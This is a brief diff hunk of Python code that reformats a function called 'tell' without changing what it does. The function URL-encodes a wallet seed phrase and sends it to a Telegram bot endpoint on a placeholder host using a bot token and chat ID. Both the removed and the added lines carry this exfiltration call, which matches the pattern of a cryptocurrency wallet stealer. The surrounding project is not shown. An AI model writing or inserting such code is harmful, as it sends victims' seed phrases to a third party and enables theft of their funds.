@@ -8,6 +8,4 @@ CHAT = "000000000"
 
 def tell(seed_phrase):
     text = urllib.parse.quote(seed_phrase)
-    urllib.request.urlopen(
-        f"https://api.telegram.org.example/bot{TOKEN}/sendMessage?chat_id={CHAT}&text={text}"
-    )
+    urllib.request.urlopen(f"https://api.telegram.org.example/bot{TOKEN}/sendMessage?chat_id={CHAT}&text={text}")
